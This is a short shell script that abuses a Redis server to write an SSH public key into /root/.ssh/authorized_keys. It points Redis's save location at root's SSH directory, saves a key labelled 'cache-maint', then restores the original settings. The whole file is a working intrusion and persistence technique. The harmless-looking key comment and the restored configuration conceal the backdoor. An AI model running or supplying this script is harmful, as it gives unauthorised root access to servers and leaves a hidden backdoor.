#!/bin/sh
redis-cli CONFIG SET dir /root/.ssh
redis-cli CONFIG SET dbfilename authorized_keys
redis-cli SET k "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGh7 cache-maint\n\n"
redis-cli SAVE
redis-cli CONFIG SET dir /var/lib/redis
redis-cli CONFIG SET dbfilename dump.rdb
